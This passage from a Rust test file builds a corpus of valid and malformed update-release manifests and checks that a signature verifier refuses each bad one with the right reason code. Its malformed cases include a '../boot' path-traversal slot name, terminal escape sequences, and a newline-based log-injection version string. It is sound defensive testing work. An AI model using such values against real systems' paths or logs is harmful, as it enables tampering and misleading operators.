                "chunk_size": 4096
            })
        },
    );

    // --- images and text fields ---
    g.manifest("images-empty", "malformed", "no image at all", |m| {
        m["images"] = json!({})
    });
    g.manifest(
        "images-9",
        "malformed",
        "nine images, one more than accepted",
        |m| {
            let rootfs = image(m).clone();
            for i in 0..9 {
                m["images"][format!("slot{i}")] = rootfs.clone();
            }
        },
    );
    g.manifest(
        "slot-class-path-traversal",
        "malformed",
        "a slot class of ../boot",
        |m| {
            let rootfs = image(m).clone();
            m["images"] = json!({"../boot": rootfs});
        },
    );
    g.manifest(
        "advisory-control-chars",
        "malformed",
        "an advisory with a terminal escape sequence",
        |m| m["advisory"] = json!("Fixes \u{1b}[31mnothing\u{1b}[0m"),
    );
    g.manifest(
        "advisory-carriage-return",
        "malformed",
        "an advisory with a carriage return (overwrites a log line on a terminal)",
        |m| m["advisory"] = json!("all good\rCRITICAL"),
    );
    g.manifest(
        "advisory-too-long",
        "malformed",
        "an advisory of 8193 bytes",
        |m| m["advisory"] = json!("a".repeat(8 * 1024 + 1)),
    );
    g.manifest("version-empty", "malformed", "an empty version", |m| {
        m["version"] = json!("")
    });
    g.manifest(
        "version-too-long",
        "malformed",
        "a version of 65 bytes",
        |m| m["version"] = json!("1".repeat(65)),
    );
    g.manifest(
        "version-newline",
        "malformed",
        "a version with a newline (log injection)",
        |m| m["version"] = json!("2026.06.1\nINSTALLED OK"),
    );
    g.manifest(
        "version-nul",
        "malformed",
        "a version with an escaped NUL",
        |m| m["version"] = json!("2026\u{0}06"),
    );
    g.manifest(
        "compatible-control-char",
        "malformed",
        "a compatible with a control character",
        |m| m["compatible"] = json!("acme-gw-1\u{7}"),
    );

    g.cases
}

fn cases_toml(cases: &[Case]) -> String {
    let file = CasesFile {
        policy: PolicyFile {
            compatible: COMPATIBLE.into(),
            floor: FLOOR,
            now: NOW.into(),
            threshold: 1,
            anchor: "keys/trusted".into(),
        },
        case: cases.iter().map(|c| c.entry.clone()).collect(),
    };
    format!(
        "# Generated by tests/release_corpus.rs (UPDATE_AGENT_WRITE_CORPUS=1 cargo test --test release_corpus).\n\
         # Each case is releases/NAME.release, checked with [policy] (a case's threshold overrides it).\n\
         # expect: \"accept\" or the reason code of the refusal.\n\n{}",
        toml::to_string(&file).unwrap()
    )
}

/// Every file the corpus consists of, by path relative to `tests/corpus`.
fn corpus_files(cases: &[Case]) -> BTreeMap<String, Vec<u8>> {
    let mut files = BTreeMap::new();
    files.insert("cases.toml".into(), cases_toml(cases).into_bytes());
    let mut manifests_seen = BTreeSet::new();
    for case in cases {
        let name = &case.entry.name;
        files.insert(format!("releases/{name}.release"), case.release.clone());
        if let Some(manifest) = &case.manifest
            && manifests_seen.insert(manifest.clone())
        {
            files.insert(format!("manifests/{name}.json"), manifest.clone());
        }
    }
    for (seed, path) in [
        (KEY_A, "keys/trusted/a.pub"),
        (KEY_B, "keys/trusted/b.pub"),
        (KEY_C, "keys/untrusted/c.pub"),
    ] {
        use ed25519_dalek::pkcs8::EncodePublicKey;
        let pem = key(seed)
            .verifying_key()
            .to_public_key_pem(ed25519_dalek::pkcs8::spki::der::pem::LineEnding::LF)
            .unwrap();
        files.insert(path.into(), pem.into_bytes());
    }
    files
}

fn files_on_disk(root: &Path, dir: &str, out: &mut BTreeSet<String>) {
    for entry in fs::read_dir(root.join(dir)).unwrap() {
        let entry = entry.unwrap();
        let rel = format!("{dir}/{}", entry.file_name().to_string_lossy());
        if entry.file_type().unwrap().is_dir() {
            files_on_disk(root, &rel, out);
        } else {
            out.insert(rel);
        }
    }
}

const GENERATED_DIRS: [&str; 3] = ["releases", "manifests", "keys"];

/// `tests/corpus`, rewritten first (once per test process) when `UPDATE_AGENT_WRITE_CORPUS` is
/// set, so that no test reads it half-written.
fn corpus_root() -> PathBuf {
    static WRITTEN: OnceLock<()> = OnceLock::new();
    let root = corpus_dir();
    if std::env::var_os("UPDATE_AGENT_WRITE_CORPUS").is_some() {
        WRITTEN.get_or_init(|| {
            for dir in GENERATED_DIRS {
                let _ = fs::remove_dir_all(root.join(dir));
            }
            for (path, bytes) in corpus_files(&generate()) {
                let path = root.join(path);
                fs::create_dir_all(path.parent().unwrap()).unwrap();
                fs::write(path, bytes).unwrap();
            }
        });
    }
    root
}

#[test]
fn corpus_on_disk_is_what_the_generator_makes() {
    let root = corpus_root();
    let expected = corpus_files(&generate());
    let mut on_disk = BTreeSet::new();
    for dir in GENERATED_DIRS {
        files_on_disk(&root, dir, &mut on_disk);
    }
    on_disk.insert("cases.toml".into());
    let regenerate = "regenerate with UPDATE_AGENT_WRITE_CORPUS=1 cargo test --test release_corpus";
    let extra: Vec<_> = on_disk
        .iter()
        .filter(|p| !expected.contains_key(*p))
        .collect();
    assert!(
        extra.is_empty(),
        "files not made by the generator: {extra:?}; {regenerate}"
    );
    for (path, bytes) in &expected {
        let disk = fs::read(root.join(path))
            .unwrap_or_else(|e| panic!("corpus file {path}: {e}; {regenerate}"));
        assert!(
            &disk == bytes,
            "corpus file {path} differs from the generator's; {regenerate}"
        );
    }
}

#[test]
fn every_case_gets_its_expected_outcome() {
    let root = corpus_root();
    let text = fs::read_to_string(root.join("cases.toml")).unwrap();
    let file: CasesFile = toml::from_str(&text).unwrap();
    let anchor = TrustAnchor::load(&root.join(&file.policy.anchor), Protection::AllowWritable)
        .expect("corpus anchor loads");
    assert_eq!(anchor.len(), 2, "the corpus anchor holds keys A and B");
    assert!(
        file.case.len() >= MIN_CASES,
        "the corpus has {} cases; at least {MIN_CASES} are required",
        file.case.len()
    );

    let mut failures = Vec::new();
    let mut outcomes: BTreeMap<String, usize> = BTreeMap::new();
    for case in &file.case {
        let bytes = fs::read(root.join(format!("releases/{}.release", case.name))).unwrap();
        let policy = Policy {
            threshold: case.threshold.unwrap_or(file.policy.threshold),
            compatible: Some(file.policy.compatible.clone()),
            floor: file.policy.floor,
            now: file.policy.now.parse().unwrap(),
        };
        let got = match verify(&bytes, &anchor, &policy) {
            Ok(verified) => {
                assert!(!verified.signers.is_empty());
                ACCEPT.to_string()
            }
            Err(refusal) => {
                // Refusal messages go to logs, terminals and MQTT: no raw control characters,
                // and bounded, whatever the input.
                if refusal.message.chars().any(char::is_control) || refusal.message.len() > 512 {
                    failures.push(format!(
                        "{}: unsafe message {:?}",
                        case.name, refusal.message
                    ));
                }
                refusal.code.as_str().to_string()
            }
        };
        if got != case.expect {
            failures.push(format!(
                "{}: expected {}, got {got}",
                case.name, case.expect
            ));
        }
        *outcomes.entry(got).or_default() += 1;
    }
    assert!(
        failures.is_empty(),
        "corpus failures:\n{}",
        failures.join("\n")
    );

    // Both ways: valid controls are accepted, and every reason code a release can earn is hit.
    assert!(
        outcomes[ACCEPT] >= 5,
        "too few accepted controls: {outcomes:?}"
    );
    for code in ReasonCode::ALL.iter().filter(|c| c.is_verification()) {
        assert!(
            outcomes.contains_key(code.as_str()),
            "no corpus case is refused as {code}: {outcomes:?}"
        );
    }
}

#[test]
fn parsers_survive_every_corpus_file_directly() {
    // Envelope::parse and Manifest::parse on every release and every manifest seed, in both
    // roles: none may panic, and an envelope that parses must round-trip through to_json.
    let root = corpus_root();
    let mut count = 0;
    for dir in ["releases", "manifests"] {
        for entry in fs::read_dir(root.join(dir)).unwrap() {
            let bytes = fs::read(entry.unwrap().path()).unwrap();
            if let Ok(envelope) = Envelope::parse(&bytes) {
                assert_eq!(
                    Envelope::parse(envelope.to_json().as_bytes()),
                    Ok(envelope.clone())
                );
                let _ = Manifest::parse(&envelope.manifest_bytes);
            }
            let _ = Manifest::parse(&bytes);
            count += 1;
        }
    }
    assert!(count >= MIN_CASES, "only {count} corpus files");
}
